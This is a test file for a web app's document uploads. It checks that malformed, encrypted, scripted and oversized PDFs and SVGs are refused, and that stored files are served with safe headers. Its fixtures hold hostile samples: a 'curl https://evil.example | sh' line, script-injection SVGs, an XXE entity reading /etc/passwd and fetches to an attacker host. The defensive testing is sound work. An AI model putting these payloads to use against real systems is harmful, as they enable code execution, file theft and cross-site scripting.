/**
 * The documents library against the real app (app.inject, a real SQLite file and media folder): PDFs made with
 * pdf-lib and SVGs written here, each defence of docs/decisions/0055-documents.md as an admin or an attacker meets it.
 */
import { readdirSync } from 'node:fs';
import { Readable } from 'node:stream';
import sharp from 'sharp';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { checkPdf } from './media/documents';
import { JSON_HEADERS, signedInApp, type SignedInApp } from './test/helpers';
import { encryptedPdf, makePdf, scriptedPdf } from './test/documents';
import { BOUNDARY, MULTIPART, uploadMedia } from './test/uploads';

let t: SignedInApp;
let cookie: string;
beforeEach(async () => {
  t = await signedInApp({ LOG_LEVEL: 'silent' });
  cookie = t.cookie;
});
afterEach(async () => {
  await t.close();
});

const MB = 1024 * 1024;
const upload = (data: Buffer, filename: string, type?: string) => uploadMedia(t.app, cookie, data, filename, type);
const send = (method: 'POST' | 'PUT' | 'PATCH' | 'DELETE', url: string, body: unknown) =>
  t.app.inject({ method, url, headers: { ...JSON_HEADERS, cookie }, payload: JSON.stringify(body) });
const folder = () => readdirSync(t.app.services.config.mediaDir).sort();
const library = () => t.app.services.content.list('documents');

const SVG_NS = 'xmlns="http://www.w3.org/2000/svg"';
/** A logo as Inkscape writes one: a declaration, a comment, metadata in other namespaces, a gradient used by #fragment. */
const CLEAN_SVG = `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->
<svg ${SVG_NS} xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" width="200" height="80" viewBox="0 0 200 80" inkscape:version="1.3">
  <sodipodi:namedview id="nv" pagecolor="#ffffff" />
  <defs><linearGradient id="g"><stop offset="0" style="stop-color:#c83c1e"/><stop offset="1" stop-color="#1e3cc8"/></linearGradient>
  <path id="p" d="M0 0h10v10z"/></defs>
  <style><![CDATA[ .a { fill: url(#g); } ]]></style>
  <rect class="a" width="200" height="80" rx="8" fill="url('#g')" />
  <use xlink:href="#p" x="20" /><use href="#p" x="40" />
  <text x="100" y="50" text-anchor="middle" font-family="sans-serif">Tudor &amp; Vale &#x219;</text>
</svg>
`;
const svg = (inside: string, attrs = '') => Buffer.from(`<svg ${SVG_NS} ${attrs} width="10" height="10">${inside}</svg>`);

async function refused(data: Buffer, filename: string, status: number, code: string, message: RegExp) {
  const before = folder();
  const res = await upload(data, filename);
  expect(res.statusCode, res.body).toBe(status);
  expect(res.json()).toMatchObject({ code, field: 'file' });
  expect(res.json().error).toMatch(message);
  expect(folder()).toEqual(before);
  expect(await library()).toEqual([]);
  return res;
}

describe('a PDF', { timeout: 60_000 }, () => {
  it('is taken by its structure: 201 { document } with its pages, stored once as <hash>.pdf', async () => {
    const pdf = await makePdf(3);
    // Named without .pdf and sent as an image: the bytes decide.
    const res = await upload(pdf, 'Rider tehnic 2026', 'image/png');
    expect(res.statusCode, res.body).toBe(201);
    const { document } = res.json();
    expect(document).toMatchObject({ name: 'Rider tehnic 2026', format: 'pdf', pages: 3, bytes: pdf.length });
    expect(document.src).toMatch(/^\/media\/[0-9a-f]{64}$/);
    expect(folder()).toEqual([`${document.src.slice(7)}.pdf`]);

    // The same file again is the same item: 200, nothing more stored.
    const again = await upload(pdf, 'rider-copy.pdf');
    expect(again.statusCode, again.body).toBe(200);
    expect(again.json().document).toEqual(document);
    expect(await library()).toHaveLength(1);
    expect(folder()).toHaveLength(1);
  });

  it('refuses HTML named .pdf, a script named .pdf and a PNG named .pdf, by what they hold (415), nothing kept', async () => {
    const html = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');
    await refused(html, 'rider.pdf', 415, 'unsupported-type', /^“rider\.pdf” is not a PDF: its content is not a PDF file, whatever its name says\./);
    await refused(Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'), 'plot.pdf', 415, 'unsupported-type', /“plot\.pdf” is not a PDF/);
    await refused(Buffer.from('alert(1); // a script, nothing else, long enough to fill the head'), 'rider.pdf', 415, 'unsupported-type', /is not a PDF/);
    const png = await sharp({ create: { width: 20, height: 20, channels: 3, background: '#c83c1e' } })
      .png()
      .toBuffer();
    await refused(png, 'stage plot.pdf', 415, 'unsupported-type', /“stage plot\.pdf” is not a PDF/);
  });

  it('refuses a PDF cut short (400 truncated) and one that is damaged inside (400 corrupt)', async () => {
    const whole = await makePdf(2);
    await refused(whole.subarray(0, Math.floor(whole.length * 0.6)), 'rider.pdf', 400, 'truncated', /“rider\.pdf” is incomplete: the PDF stops before its end/);
    // The start and end of a PDF around nothing a reader can open.
    const hollow = Buffer.from('%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n');
    await refused(hollow, 'rider.pdf', 400, 'corrupt', /“rider\.pdf” is not a PDF that can be read: it is damaged/);
  });

  it('refuses an encrypted PDF (400 protected-document) and one that runs JavaScript (415 unsafe-document)', async () => {
    await refused(await encryptedPdf(), 'rider.pdf', 400, 'protected-document', /“rider\.pdf” is protected by a password or by restrictions/);
    await refused(
      await scriptedPdf(),
      'rider.pdf',
      415,
      'unsafe-document',
      /“rider\.pdf” holds JavaScript, an attached file or an action that starts a program/,
    );
  });

  it('cuts a 60 MB PDF at 20 MB (413) while it arrives, never reading it to its end', async () => {
    const head = await makePdf(1);
    const total = 60 * MB;
    let pulled = 0;
    const start = Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="huge.pdf"\r\nContent-Type: application/pdf\r\n\r\n`);
    const chunk = Buffer.alloc(64 * 1024, 0x20);
    const body = Readable.from(
      (function* () {
        yield start;
        yield head;
        for (let sent = head.length; sent < total; sent += chunk.length) {
          pulled = sent;
          yield chunk;
        }
        pulled = total;
        yield Buffer.from(`\r\n--${BOUNDARY}--\r\n`);
      })(),
    );
    const res = await t.app.inject({ method: 'POST', url: '/api/admin/media', headers: { cookie, 'content-type': MULTIPART }, payload: body });
    expect(res.statusCode, res.body).toBe(413);
    expect(res.json()).toMatchObject({ code: 'too-large', field: 'file' });
    expect(res.json().error).toBe('“huge.pdf” is larger than 20 MB: save it smaller (a rider or a stage plot is usually a few hundred KB).');
    expect(res.headers.connection).toBe('close');
    // Read up to the cap and a little beyond (the parser's and the stream's buffers), never the 60 MB.
    expect(pulled).toBeLessThan(30 * MB);
    expect(folder()).toEqual([]);
  });

  it('takes a 9 MB PDF in 4 MB pieces, as the admin sends a file larger than one request', async () => {
    const pdf = await makePdf(12, 'Stage plot', 9 * MB);
    const start = await send('POST', '/api/admin/uploads', { name: 'Plan de scenă.pdf', size: pdf.length });
    expect(start.statusCode, start.body).toBe(201);
    const { id } = start.json().upload as { id: string };
    for (let offset = 0; offset < pdf.length; offset += 4 * MB) {
      const res = await t.app.inject({
        method: 'PUT',
        url: `/api/admin/uploads/${id}?offset=${offset}`,
        headers: { cookie, 'content-type': 'application/octet-stream' },
        payload: pdf.subarray(offset, offset + 4 * MB),
      });
      expect(res.statusCode, res.body).toBe(200);
    }
    const done = await send('POST', `/api/admin/uploads/${id}/finish`, {});
    expect(done.statusCode, done.body).toBe(201);
    expect(done.json().document).toMatchObject({ name: 'Plan de scenă.pdf', format: 'pdf', pages: 12, bytes: pdf.length });
  });

  it('refuses an upload in pieces announced as a 60 MB PDF before any piece is sent (413)', async () => {
    const res = await send('POST', '/api/admin/uploads', { name: 'huge.pdf', size: 60 * MB });
    expect(res.statusCode, res.body).toBe(413);
    expect(res.json()).toMatchObject({ code: 'too-large', field: 'size' });
    expect(res.json().error).toMatch(/^“huge\.pdf” is larger than 20 MB/);
    // The same size as audio is taken: the name said document.
    expect((await send('POST', '/api/admin/uploads', { name: 'mix.wav', size: 60 * MB })).statusCode).toBe(201);
  });

  it('checks a 10 MB PDF (a rider with its pictures) within 5 s: the figure of the decision', async () => {
    const pdf = await makePdf(40, 'Stage plot', 10 * MB);
    const started = performance.now();
    expect(await checkPdf(pdf, '“plot.pdf”')).toEqual({ pages: 40 });
    const ms = performance.now() - started;
    console.info(`a ${(pdf.length / MB).toFixed(1)} MB PDF of 40 pages checked in ${ms.toFixed(0)} ms`);
    expect(ms).toBeLessThan(5000);
  });
});

describe('an SVG', { timeout: 60_000 }, () => {
  it('is taken when it is only drawing (Inkscape’s metadata, #fragment references): 201 { document }, format svg, no pages', async () => {
    const res = await upload(Buffer.from(CLEAN_SVG), 'Logo Tudor Vale.svg', 'text/plain');
    expect(res.statusCode, res.body).toBe(201);
    expect(res.json().document).toMatchObject({ name: 'Logo Tudor Vale.svg', format: 'svg', pages: 0, bytes: Buffer.byteLength(CLEAN_SVG) });
    expect(folder()).toEqual([`${res.json().document.src.slice(7)}.svg`]);
  });

  const unsafe: [string, Buffer, RegExp][] = [
    ['a <script>', svg('<script>alert(1)</script>'), /holds a script \(<script>\)/],
    ['a script in another case and namespace', svg('<x:SCRIPT xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:SCRIPT>'), /holds a script/],
    ['onload=', svg('<rect width="1" height="1"/>', 'onload="alert(1)"'), /holds an event attribute \(onload="…"\)/],
    ['onclick on a child', svg('<rect width="1" height="1" onclick="alert(1)"/>'), /holds an event attribute/],
    ['<foreignObject>', svg('<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject>'), /holds embedded HTML \(<foreignObject>\)/],
    [
      'an external href',
      svg('<image href="https://evil.example/pixel.png" width="1" height="1"/>'),
      /holds a link to another address \(<image href="https:\/\/evil\.example\/pixel\.png">\)/,
    ],
    ['a <use> of another file', svg('<use xlink:href="other.svg#a"/>', 'xmlns:xlink="http://www.w3.org/1999/xlink"'), /a link to another address/],
    ['a javascript: link', svg('<a href="javascript:alert(1)"><rect width="1" height="1"/></a>'), /holds a script \(href="javascript:…"\)/],
    ['a javascript: link hidden by a character reference', svg('<a href="jav&#x09;ascript:alert(1)"><rect width="1" height="1"/></a>'), /holds a script/],
    ['a data: image', svg('<image href="data:image/svg+xml;base64,PHN2Zy8+" width="1" height="1"/>'), /a link to another address/],
    [
      'an entity',
      Buffer.from(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg ${SVG_NS}>&x;</svg>`),
      /holds a DOCTYPE or an entity \(<!DOCTYPE svg\)/,
    ],
    ['a style that fetches', svg('<style>@import url(https://evil.example/x.css);</style>'), /holds a style that fetches \(@import\)/],
    [
      'a fill from another address',
      svg('<rect width="1" height="1" style="fill:url(https://evil.example/#g)"/>'),
      /a style that fetches \(url\(https:\/\/evil\.example\/#g\)\)/,
    ],
    [
      'a stylesheet instruction',
      Buffer.from(`<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.css"?><svg ${SVG_NS}/>`),
      /holds a processing instruction \(<\?xml-stylesheet \?>\)/,
    ],
    ['an animation setting href', svg('<a><set attributeName="href" to="javascript:alert(1)"/></a>'), /holds a script/],
  ];
  for (const [what, data, message] of unsafe) {
    it(`refuses ${what} (415 unsafe-document), rather than cleaning it`, async () => {
      await refused(data, 'logo.svg', 415, 'unsafe-document', message);
    });
  }

  it('cuts an SVG at 5 MB (413) as it arrives: its check reads every element on the server’s thread', async () => {
    const big = Buffer.concat([Buffer.from(`<svg ${SVG_NS}>`), Buffer.alloc(6 * MB, 0x20), Buffer.from('</svg>')]);
    await refused(big, 'logo.svg', 413, 'too-large', /^“logo\.svg” is larger than 5 MB: an SVG logo is a few hundred KB at most/);
  });

  it('refuses what is not an SVG at all (HTML, another root, another namespace) and broken XML, saying where', async () => {
    await refused(
      Buffer.from('<!doctype html><html><body>logo</body></html>'),
      'logo.svg',
      415,
      'unsupported-type',
      /“logo\.svg” is not an SVG image: its content is not SVG/,
    );
    await refused(Buffer.from('<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>'), 'logo.svg', 415, 'unsupported-type', /is not an SVG image/);
    await refused(Buffer.from('<svg width="10" height="10"><rect/></svg>'), 'logo.svg', 415, 'unsupported-type', /is not an SVG image/);
    await refused(
      Buffer.from(`<svg ${SVG_NS}>\n<g>\n<rect>\n</g></svg>`),
      'logo.svg',
      400,
      'corrupt',
      /“logo\.svg” is not an SVG image that can be read: its XML is broken at line 4\./,
    );
  });

  it('keeps an HTML page named .jpg refused in an image’s words (not read as an SVG)', async () => {
    await refused(
      Buffer.from('<!doctype html><html><body>x</body></html>'),
      'photo.jpg',
      415,
      'unsupported-type',
      /“photo\.jpg” is not a JPEG, PNG, WebP or AVIF image/,
    );
  });
});

describe('a document served', { timeout: 60_000 }, () => {
  const uploadRider = async (name = 'Rider tehnic — ședință.pdf') => {
    const res = await upload(await makePdf(2), name);
    expect(res.statusCode, res.body).toBe(201);
    return res.json().document as { id: string; src: string; name: string };
  };

  it('is a download with a CSP that runs nothing, named after the item (RFC 6266/5987), the admin’s alone while unused', async () => {
    const doc = await uploadRider();
    const url = `${doc.src}.pdf`;
    const res = await t.app.inject({ url, headers: { cookie } });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="Rider tehnic _ sedinta.pdf"; filename*=UTF-8''Rider%20tehnic%20%E2%80%94%20%C8%99edin%C8%9B%C4%83.pdf`,
    );
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['content-security-policy']).toBe("default-src 'none'; style-src 'unsafe-inline'; sandbox");
    expect(res.headers['cache-control']).toBe('private, max-age=31536000, immutable');
    expect(res.rawPayload.subarray(0, 5).toString()).toBe('%PDF-');

    // Unused: a visitor gets the same 404 as for a name that does not exist, and the public list does not name it.
    expect((await t.app.inject({ url })).statusCode).toBe(404);
    expect((await t.app.inject({ url: '/api/documents' })).json()).toEqual({ documents: [] });
    // Nor under the other format's name.
    expect((await t.app.inject({ url: `${doc.src}.svg`, headers: { cookie } })).statusCode).toBe(404);
  });

  it('is public once the press kit points at it, and its removal is refused while it does (409 in-use, naming where)', async () => {
    const doc = await uploadRider('Rider.pdf');
    expect((await send('PATCH', '/api/admin/press', { rider: doc.id })).statusCode).toBe(200);
    const url = `${doc.src}.pdf`;
    const res = await t.app.inject({ url });
    expect(res.statusCode).toBe(200);
    expect(res.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    expect(res.headers['content-disposition']).toBe('attachment; filename="Rider.pdf"');
    expect((await t.app.inject({ url: '/api/documents' })).json().documents.map((d: { id: string }) => d.id)).toEqual([doc.id]);

    const removal = await send('DELETE', `/api/admin/documents/${doc.id}`, {});
    expect(removal.statusCode).toBe(409);
    expect(removal.json()).toMatchObject({ code: 'in-use' });
    expect(removal.json().error).toBe('This document is used in: Press kit › Technical rider (PDF). Choose another document there first.');
    expect(await library()).toHaveLength(1);

    // Chosen elsewhere, it goes, and its file stays for the history's undo until media-gc finds nothing naming it.
    expect((await send('PATCH', '/api/admin/press', { rider: '' })).statusCode).toBe(200);
    expect((await send('DELETE', `/api/admin/documents/${doc.id}`, {})).statusCode).toBe(200);
    expect(await library()).toEqual([]);
    expect((await t.app.inject({ url })).statusCode).toBe(404);
  });

  it('keeps an upload’s file facts on a rename, and takes a JSON add only as an https:// link', async () => {
    const doc = await uploadRider('Rider.pdf');
    const renamed = await send('PUT', `/api/admin/documents/${doc.id}`, {
      name: 'Rider 2027',
      src: `/media/${'0'.repeat(64)}`,
      format: 'svg',
      bytes: 1,
      pages: 99,
    });
    expect(renamed.statusCode, renamed.body).toBe(200);
    expect((await library())[0]).toMatchObject({ name: 'Rider 2027', src: doc.src, format: 'pdf', pages: 2 });

    const local = await send('POST', '/api/admin/documents', { name: 'x', src: `/media/${'1'.repeat(64)}`, format: 'pdf', bytes: 0, pages: 0 });
    expect(local.statusCode).toBe(400);
    const link = await send('POST', '/api/admin/documents', { name: 'Stage plot', src: 'https://files.example/plot.pdf', format: 'pdf', bytes: 0, pages: 0 });
    expect(link.statusCode, link.body).toBe(201);
  });
});
